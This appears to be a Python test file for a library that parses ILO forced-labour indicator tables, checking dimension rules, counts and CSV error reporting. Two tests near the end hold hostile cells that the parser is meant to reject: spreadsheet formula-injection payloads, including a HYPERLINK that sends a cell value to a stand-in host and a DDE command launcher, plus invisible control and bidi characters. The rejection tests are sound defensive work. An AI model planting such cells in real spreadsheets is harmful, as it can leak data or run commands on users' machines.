"""Tests of indicator sets: the ILO's table, the laws of the dimension rule, and the problems of wrong tables."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from screening_forms.errors import FormError
from screening_forms.rules.dimensions import DELPHI, HARD_TO_SEE, STRENGTHS, Rule
from screening_forms.rules.indicators import (
    FORCED_LABOUR,
    IndicatorSet,
    count_tallies,
    indicator_set_from_dict,
    parse_indicator_set,
)
from screening_forms.workbook.resources import BUILT_IN

ILO = BUILT_IN.indicator_set("ilo_delphi_2009")
SETS = [BUILT_IN.indicator_set(name) for name in BUILT_IN.indicator_sets]
COUNTS = st.integers(min_value=0, max_value=9)
HEADING = "code,dimension,label_es,label_en,adult_labour,child_labour,sign,forced_labour,source,provenance"
ROW = "D1.01,D1,Engaño,Deceit,S,W,,deception,OIT,checked"
FORCED = "F2.01,F2,Castigo,Penalty,S,-,penalty,intimidation_threats,OIT,unverified"


@pytest.mark.parametrize(
    ("strong", "medium", "weak", "positive"),
    [
        (1, 0, 0, False),
        (1, 1, 0, True),
        (1, 0, 1, True),
        (2, 0, 0, True),
        (0, 2, 0, False),
        (0, 2, 1, True),
        (0, 3, 0, True),
        (0, 1, 5, False),
        (0, 0, 9, False),
    ],
)
def test_the_dimension_rule_is_the_ilos(strong: int, medium: int, weak: int, positive: bool) -> None:
    assert DELPHI.holds({"strong": strong, "medium": medium, "weak": weak}) is positive


@pytest.mark.parametrize(
    ("involuntariness", "penalty", "strong", "positive"),
    [(1, 1, 1, True), (1, 1, 0, False), (5, 0, 5, False), (0, 5, 5, False), (1, 1, 2, True), (3, 2, 0, False)],
)
def test_forced_labour_needs_involuntariness_and_a_penalty_with_one_of_them_strong(
    involuntariness: int, penalty: int, strong: int, positive: bool
) -> None:
    counts = {"involuntariness": involuntariness, "penalty": penalty, "strong": strong}
    assert HARD_TO_SEE.holds(counts) is positive


@pytest.mark.parametrize("rule", [DELPHI, HARD_TO_SEE])
@given(data=st.data())
def test_one_more_indicator_never_makes_a_dimension_negative(rule: Rule, data: st.DataObject) -> None:
    counts = {kind: data.draw(COUNTS) for kind in rule.kinds}
    more = data.draw(st.sampled_from(rule.kinds))
    assert rule.holds({**counts, more: counts[more] + 1}) >= rule.holds(counts)


@given(st.sampled_from(SETS), st.data())
def test_a_dimension_positive_at_min_is_positive_at_max(indicator_set: IndicatorSet, data: st.DataObject) -> None:
    codes = st.sets(st.sampled_from(sorted(indicator_set.indicators)))
    certain, unknown = data.draw(codes), data.draw(codes)
    for profile in indicator_set.profiles:
        low, high = (count_tallies(codes, indicator_set, profile) for codes in (certain, certain | unknown))
        assert all(high[d].positive >= low[d].positive for d in indicator_set.dimensions)


def test_a_code_has_the_same_meaning_in_every_set_of_the_release() -> None:
    meanings: dict[str, set[tuple[str, str, str]]] = {}
    for each in (row for indicator_set in SETS for row in indicator_set.indicators.values()):
        meanings.setdefault(each.code, set()).add((each.dimension, each.label_es, each.label_en))
    assert {code: found for code, found in meanings.items() if len(found) > 1} == {}


def test_a_set_has_only_the_profiles_with_a_column_in_its_table() -> None:
    assert ILO.profiles == ("adult_labour", "child_labour", "adult_sexual", "child_sexual")
    assert ILO.members("site", "D5", "strong") == ILO.strong("adult_forced_labour") == ()
    assert ILO.used("site") == ILO.family("X")


def test_the_adult_labour_list_has_its_67_members_and_the_child_list_no_weak_tier() -> None:
    def size(profile: str, tiers: tuple[str, ...] = tuple(STRENGTHS)) -> list[int]:
        return [sum(len(ILO.members(profile, dimension, tier)) for tier in tiers) for dimension in ILO.dimensions]

    assert size("adult_labour") == [10, 10, 16, 9, 15, 7]
    assert size("child_labour") == [10, 10, 15, 8, 15, 7]
    assert size("child_labour", ("weak",)) == size("child_sexual", ("weak",)) == [0] * 6
    assert size("adult_labour", ("strong",)) == [1, 1, 0, 1, 4, 0]


def test_a_strength_belongs_to_profile_and_dimension() -> None:
    assert ILO.strength("D2.05", "adult_labour") == "M"
    assert ILO.strength("D5.01", "adult_labour") == "S"
    assert ILO.strength("D1.10", "child_labour") == "S"
    assert ILO.strength("D4.06", "child_labour") == "-"
    assert "D4.06" not in ILO.used("child_labour")


def test_bright_lines_count_in_no_dimension() -> None:
    assert {"X.01", "X.02", "X.03"} <= set(ILO.used("adult_labour"))
    assert not any(sum(tally.counts.values()) for tally in count_tallies(["X.01"], ILO, "child_labour").values())
    assert not any(code.startswith("X") for profile in ILO.profiles for code in ILO.strong(profile))


def test_every_indicator_serves_both_kinds_of_report_and_has_a_provenance() -> None:
    used = {mapped for indicator in ILO.indicators.values() for mapped in indicator.forced_labour}
    assert used == set(FORCED_LABOUR)
    assert len(FORCED_LABOUR) == 11
    assert all("[unverified]" in indicator.provenance for indicator in ILO.indicators.values())


@pytest.mark.parametrize("name", BUILT_IN.indicator_sets)
def test_a_set_round_trips_through_json(name: str) -> None:
    assert indicator_set_from_dict(BUILT_IN.indicator_set(name).as_dict()) == BUILT_IN.indicator_set(name)


@pytest.mark.parametrize(
    ("row", "code", "column"),
    [
        (ROW.replace("D1.01", "D7.01"), "bad_code", "code"),
        (ROW.replace(",D1,", ",D2,"), "bad_dimension", "dimension"),
        (ROW.replace(",S,", ",Z,"), "bad_strength", "adult_labour"),
        (ROW.replace("D1", "X"), "bad_strength", "adult_labour"),
        (ROW.replace(",W,,", ",W,penalty,"), "bad_sign", "sign"),
        (FORCED.replace(",penalty,", ",,"), "bad_sign", "sign"),
        (FORCED.replace(",penalty,", ",medium,"), "bad_sign", "sign"),
        (ROW.replace("deception", "deceit"), "bad_forced_labour", "forced_labour"),
        (ROW.replace("Engaño", ""), "empty", "label_es"),
        (ROW.replace(",OIT,", ",,"), "empty", "source"),
        (f"{ROW}\n{ROW}", "duplicate_code", "code"),
    ],
)
def test_a_problem_names_the_line_and_the_column_of_the_wrong_row(row: str, code: str, column: str) -> None:
    with pytest.raises(FormError) as caught:
        parse_indicator_set("x", f"{HEADING}\n{row}\n")
    problem = caught.value.problems[0]
    assert (problem.sheet, problem.column, problem.code) == ("x.csv", column, f"indicator_set.{code}")
    assert problem.row == 1 + len(row.splitlines())
    assert problem.advice_es
    assert problem.advice_en


def test_all_wrong_rows_are_reported_at_once() -> None:
    bad = ROW.replace("D1.01", "Q")
    with pytest.raises(FormError) as caught:
        parse_indicator_set("x", f"{HEADING}\n{bad}\n{ROW}\n{bad.replace('Q', 'R')}\n")
    assert [problem.row for problem in caught.value.problems] == [2, 4]


def test_missing_columns_and_unknown_sets_are_reported_by_name() -> None:
    with pytest.raises(FormError, match="forced_labour"):
        parse_indicator_set("x", HEADING.replace(",forced_labour", "") + "\n")
    with pytest.raises(FormError, match="ilo_delphi_2009"):
        BUILT_IN.indicator_set("ilo_delphi_2010")


@pytest.mark.parametrize(
    ("heading", "row", "code", "column"),
    [
        (HEADING.replace("adult_labour", "adult_labor"), ROW, "unknown_column", "adult_labor"),
        (HEADING.replace(",adult_labour,child_labour", ""), ROW.replace(",S,W", ""), "no_profile", ""),
    ],
)
def test_a_misspelt_or_missing_profile_is_reported_by_name(heading: str, row: str, code: str, column: str) -> None:
    with pytest.raises(FormError) as caught:
        parse_indicator_set("x", f"{heading}\n{row}\n")
    assert [(p.code, p.row, p.column) for p in caught.value.problems] == [(f"indicator_set.{code}", 1, column)]


def test_a_table_with_semicolons_from_a_spanish_spreadsheet_is_read_the_same() -> None:
    plain = f"{HEADING}\n{ROW}\n{FORCED}\n"
    assert parse_indicator_set("x", "\ufeff" + plain.replace(",", ";")) == parse_indicator_set("x", plain)


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK(""http://x.example/?""&A2,""ver"")', "=cmd|' /C calc'!A0", " +1", "-1", "@a"]
)
def test_a_cell_that_a_spreadsheet_reads_as_a_formula_is_rejected(cell: str) -> None:
    for row in (ROW.replace("Engaño", f'"{cell}"'), f'{ROW},"{cell}"'):
        with pytest.raises(FormError) as refused:
            parse_indicator_set("x", f"{HEADING}\n{row}\n")
        assert [(each.code, each.row) for each in refused.value.problems] == [("indicator_set.formula", 2)]


@pytest.mark.parametrize("sign", ["\x1b", "\x9b", "\u202e", "\u200b"])
def test_a_cell_with_an_invisible_character_is_rejected(sign: str) -> None:
    with pytest.raises(FormError) as refused:
        parse_indicator_set("x", f"{HEADING}\n{ROW.replace('Engaño', f'Engaño{sign}[2K')}\n")
    (problem,) = refused.value.problems
    assert (problem.code, problem.row, problem.column) == ("indicator_set.unseen_sign", 2, "label_es")
